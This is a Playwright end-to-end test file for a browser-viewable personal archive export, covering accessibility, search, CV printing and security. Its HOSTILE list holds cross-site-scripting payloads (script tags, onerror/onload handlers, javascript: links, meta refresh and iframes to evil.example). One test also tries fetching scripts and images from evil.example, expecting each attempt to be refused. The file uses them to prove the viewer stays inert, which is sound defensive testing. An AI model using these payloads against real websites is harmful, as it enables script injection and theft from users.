/** The archive opens in a browser, from a folder: it shows what there is, in both languages, whatever is in it, and reaches nothing. */
import { randomUUID } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { AxeBuilder } from '@axe-core/playwright';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { load } from 'js-yaml';
import type { Browser } from 'playwright-core';
import type { Graph } from '../../src/portability/testing/graph-arbitrary.js';
import { packFiles } from '../support/archive-files.js';
import { canReadPdf, textInPdf } from '../support/pdf-text.js';
import { sampleGraph, GRAPH, packTexts } from '../support/sample.js';
import { userWith } from '../support/seeded.js';
import { startTestService, type TestService, type TestUser } from '../support/service.js';
import type { TreeRows } from '../support/tree.js';
import type { Folder } from '../support/unpacked.js';
import { SUSPICIOUS } from '../unit/suspicious-texts.js';
import { describeInBrowser, openBrowser } from './chromium.js';
import { openArchive, unpack, type Look, type OpenedArchive } from './opened-archive.js';

const DEMO = new URL('../../demo/archive/', import.meta.url);
const demoRows = (area: string): TreeRows =>
  load(readFileSync(new URL(`${area}.yaml`, DEMO), 'utf8')) as TreeRows;

/** Texts that want to be more than texts; each would set `hacked`, ask something or load something. */
const HOSTILE = [
  `</script><script>globalThis.hacked=1;alert(1)</script>`,
  `<img src=x onerror="globalThis.hacked=1;alert(1)">`,
  `[press](javascript:globalThis.hacked=1) <javascript:alert(1)> [data](data:text/html,<script>alert(1)</script>)`,
  `![picture](https://evil.example/x.png) ![inline](data:image/svg+xml,<svg onload=alert(1)>)`,
  `<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
  `"]);globalThis.hacked=1;alert(1);carol("people",0,["\u2028\u2029`,
  `\\"]);alert(1);//\\u0022 \${globalThis.hacked=1} \`\${alert(1)}\``,
  `<!--<script>alert(1)--> ]]> <![CDATA[ <base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `\u202Etxet idib\u202C \u0001\u0007 \uFEFF \u0000`.replace('\u0000', '\uFFFD'),
  `__proto__ constructor hasOwnProperty`,
  `javascript:alert(1)`,
  `//evil.example/x http://evil.example/?<script>alert(1)</script>`,
  `<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><button autofocus onfocus=alert(1)>`,
  `\`\`\`html\n<script>alert(1)</script>\n\`\`\`\n\n[a]: javascript:alert(1)\n[b][a]`,
];

function hostileGraph(): Graph {
  const graph = sampleGraph();
  const texts = [...HOSTILE, ...SUSPICIOUS.filter((text) => text.trim() !== '' && !text.includes('\0'))];
  let next = 0;
  for (const kind of GRAPH.kinds) {
    for (const row of graph.rows[kind.name] ?? []) {
      const values = row.values as Record<string, unknown>;
      for (const field of kind.fields) {
        if (field.type === 'text' && field.key !== 'contentType')
          values[field.key] = texts[next++ % HOSTILE.length];
        if (field.type === 'textList') values[field.key] = texts.slice(0, HOSTILE.length);
        if (field.type === 'json') values[field.key] = { ['__proto__']: HOSTILE[0], '</script>': HOSTILE };
      }
      if (kind.blob) values['fileName'] = `${HOSTILE[next % 2]}.${['svg', 'html'][next++ % 2]}`;
    }
  }
  return graph;
}

const VIEWS: readonly Required<Look>[] = [
  { language: 'en', scheme: 'light', width: 1_000, forced: false },
  { language: 'de', scheme: 'dark', width: 320, forced: false },
];

describeInBrowser('an archive in a browser', () => {
  let service: TestService;
  let browser: Browser;
  let demo: TestUser;
  const folders: Folder[] = [];
  const opened = async (user: TestUser, look: Look = {}): Promise<OpenedArchive> => {
    const folder = await unpack(service, user, look.language);
    folders.push(folder);
    return openArchive(browser, folder, look);
  };

  beforeAll(async () => {
    service = await startTestService();
    browser = await openBrowser();
    demo = await service.createUser();
    const paths = readdirSync(DEMO, { recursive: true, encoding: 'utf8' }).filter((path) =>
      /\.\w+$/.test(path),
    );
    const archive = await packFiles(new Map(paths.map((path) => [path, readFileSync(new URL(path, DEMO))])));
    expect((await service.import(demo, archive, 'replace')).status).toBe(200);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await service?.close();
    await Promise.all(folders.map((folder) => folder.remove()));
  });

  it.each(VIEWS)(
    'has no violation that axe knows: $language, $scheme, $width pixels',
    async (look) => {
      const archive = await opened(demo, look);
      const { page } = archive;
      for (const route of [
        '',
        'people',
        'people/0',
        'organizations',
        'organizations/0',
        'notes',
        'notes/0',
        'files',
      ]) {
        await archive.go(route);
        const { violations } = await new AxeBuilder({ page }).analyze();
        expect(
          violations.map(({ id, nodes }) => [route, id, nodes.map(({ html }) => html).slice(0, 3)]),
        ).toEqual([]);
        expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
      }
      expect(await page.evaluate('document.documentElement.lang')).toBe(look.language);
      expect(archive.noted).toEqual([]);
      await archive.close();
    },
    240_000,
  );

  it('shows a person with all that belongs to them, found by their name', async () => {
    const archive = await opened(demo);
    const { page } = archive;
    await page.getByRole('link', { name: 'People' }).click();
    const link = page.getByRole('main').getByRole('listitem').getByRole('link');
    await link.first().waitFor();
    const all = await link.count();
    const name = await link.nth(1).textContent();
    await page.getByLabel('Search').fill(name ?? '');
    await page
      .getByRole('status')
      .filter({ hasText: /^1 found$/ })
      .waitFor();
    await page.getByLabel('Search').fill('');
    await page
      .getByRole('status')
      .filter({ hasText: `${all} found` })
      .waitFor();
    await page.getByLabel('Search').fill(name ?? '');
    await page
      .getByRole('status')
      .filter({ hasText: /^1 found$/ })
      .waitFor();
    await link.first().press('Enter');
    const heading = page.getByRole('heading', { level: 1 });
    await heading.filter({ hasText: name ?? '' }).waitFor();
    expect(await page.evaluate(`document.activeElement === document.querySelector('h1')`)).toBe(true);
    expect(await page.title()).toBe(`${await heading.textContent()} – Carol`);
    await archive.close();
  });

  it('prints a CV without what is only for the screen', async () => {
    const archive = await opened(demo);
    const pdf = await archive.page.pdf({ format: 'A4' });
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    await archive.page.emulateMedia({ media: 'print' });
    const text = await archive.page.evaluate<string>('document.body.innerText');
    for (const word of ['EXPERIENCE', 'EDUCATION', 'SKILLS']) expect(text).toContain(word);
    for (const word of ['Print as a CV', 'People', 'Exported from']) expect(text).not.toContain(word);
    await archive.close();
  });

  (canReadPdf ? it : it.skip)(
    'prints text that other programs find in the PDF: who it is of, and each job with its company (skipped without pdftotext, of poppler-utils)',
    async () => {
      const archive = await opened(demo);
      const text = textInPdf(await archive.page.pdf({ format: 'A4' }));
      const [profile] = Object.values(demoRows('profile'));
      expect(text).toContain(profile?.['fullName']);
      for (const { company } of Object.values(demoRows('jobs'))) expect(text).toContain(company);
      for (const { institution } of Object.values(demoRows('education'))) expect(text).toContain(institution);
      expect(text).not.toContain('Print as a CV');
      // A job goes on on the next page: the first one is full.
      const [first = ''] = text.split('\f');
      const companies = Object.values(demoRows('jobs')).map(({ company }) => String(company));
      expect(companies.filter((company) => first.includes(company)).length).toBeGreaterThan(1);
      await archive.close();
    },
  );

  it('prints all of a long career, also what the screen shows only when asked', async () => {
    const user = await service.createUser();
    const jobs = Array.from({ length: 30 }, () => `${randomUUID()}: {company: Somewhere}\n`);
    await service.import(user, await packTexts({ 'jobs.yaml': jobs.join('') }), 'merge');
    const archive = await opened(user);
    const { page } = archive;
    await page.evaluate(
      `window.print = () => (document.body.dataset.printed = document.querySelectorAll('.timeline > li').length)`,
    );
    await page.getByRole('button', { name: 'Print as a CV' }).click();
    await page.locator('body[data-printed="30"]').waitFor();
    await archive.close();
  });

  it('is inert, whatever the data are', async () => {
    const user = await userWith(service, hostileGraph());
    const archive = await opened(user);
    const { page } = archive;
    const [seen, left] = [new Set<string>(), ['']];
    for (let route = left.pop(); route !== undefined; route = left.pop()) {
      if (seen.has(route)) continue;
      seen.add(route);
      await archive.go(route);
      left.push(...(await archive.routes()));
      const links = await page.evaluate<string[]>(
        `[...document.querySelectorAll('a')].map((link) => link.getAttribute('href'))`,
      );
      for (const href of links) expect(href).toMatch(/^(#|https?:\/\/|mailto:|media\/[0-9a-f-]{36}\.png$)/);
      const foreign = `[...document.querySelectorAll('main :is(script, iframe, form, object, embed, svg, style, base, meta, link, [onerror], [onload], [style])')].length`;
      expect(await page.evaluate(foreign)).toBe(0);
    }
    expect(seen.size).toBeGreaterThan(10);
    expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
    expect(archive.noted).toEqual([]);
    await archive.close();
  }, 240_000);

  it('may reach nothing, even if a script of its own tried', async () => {
    const archive = await opened(demo);
    const tried = await archive.page.evaluate<string[]>(`Promise.all([
      fetch('https://evil.example/').then(() => 'fetched', () => 'refused'),
      new Promise((resolve) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused'); image.src = 'https://evil.example/x.png'; }),
      new Promise((resolve) => { const script = document.createElement('script'); script.onload = () => resolve('run'); script.onerror = () => resolve('refused'); script.src = 'https://evil.example/x.js'; document.head.append(script); }),
      new Promise((resolve) => { const script = document.createElement('script'); script.textContent = 'globalThis.hacked = 1'; document.head.append(script); resolve(globalThis.hacked ? 'run' : 'refused'); }),
    ])`);
    expect(tried).toEqual(['refused', 'refused', 'refused', 'refused']);
    expect(archive.noted.filter((line) => line.startsWith('request'))).toEqual([]);
    await archive.close();
  });

  it('says what is wrong where its files are not beside it', async () => {
    const folder = await unpack(service, demo);
    folders.push(folder);
    folder.run('rm', '-r', 'view');
    const { page, close } = await openArchive(browser, folder);
    expect(await page.getByRole('alert').textContent()).toContain('Unpack the whole archive');
    await close();
  });
});
